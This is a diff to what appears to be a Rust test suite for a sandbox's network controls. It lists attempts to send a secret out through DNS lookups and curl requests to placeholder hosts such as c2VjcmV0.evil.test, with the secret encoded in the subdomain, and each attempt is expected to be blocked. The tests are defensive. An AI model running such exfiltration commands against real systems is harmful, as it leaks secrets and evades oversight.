@@ -66,11 +66,13 @@ fn messages() -> Vec<Attempt> {
     let mut all = Vec::new();
     // By the resolver that a sandbox has: the name does not exist.
     for way in ["udp", "tcp"] {
-        let one = probe(13, &["ask", way, RESOLVER, &secret]).control(outside(way));
+        let asked = about(&format!("{way}.{SECRET}"), A);
+        let one = probe(13, &["ask", way, RESOLVER, &asked]).control(outside(way));
         let one = one.named(&format!("{SECRET} by {way} of the resolver inside"));
         all.push(one.says(&["code 3 answers 0"]).refused("not_allowed"));
     }
-    let ask = format!("import socket; socket.gethostbyname('{SECRET}')");
+    // Both kinds of address are asked for, and that is one attempt.
+    let ask = format!("import socket; socket.getaddrinfo('{SECRET}', 443)");
     let libc = attempt(13, "the same by libc", &["python3", "-c", &ask], &[]);
     all.push(libc.says(&["gaierror"]).refused("not_allowed").control(outside("udp")));
     // By others, which are not there.
@@ -98,16 +100,8 @@ fn by_programs() -> Vec<Attempt> {
     for (name, options, told) in [
         ("http by proxy", vec!["http://c2VjcmV0.evil.test/"], "403"),
         ("https by proxy", vec!["https://c2VjcmV0.evil.test/"], "403"),
-        (
-            "http by address",
-            vec!["--noproxy", "*", "-4", "http://c2VjcmV0.evil.test/"],
-            "curl: (6)",
-        ),
-        (
-            "https by address",
-            vec!["--noproxy", "*", "-4", "https://c2VjcmV0.evil.test/"],
-            "curl: (6)",
-        ),
+        ("http by address", vec!["--noproxy", "*", "http://by-http.evil.test/"], "curl: (6)"),
+        ("https by address", vec!["--noproxy", "*", "https://by-https.evil.test/"], "curl: (6)"),
         (
             "SOCKS with a name",
             vec!["--socks5-hostname", "127.0.0.1:1080", "http://c2VjcmV0.evil.test/"],
@@ -115,7 +109,7 @@ fn by_programs() -> Vec<Attempt> {
         ),
         (
             "SOCKS with an address",
-            vec!["-4", "--socks5", "127.0.0.1:1080", "http://c2VjcmV0.evil.test/"],
+            vec!["--socks5", "127.0.0.1:1080", "http://by-socks.evil.test/"],
             "curl: (97)",
         ),
         ("below a host that may be reached", vec!["https://c2VjcmV0.ok.test/"], "403"),
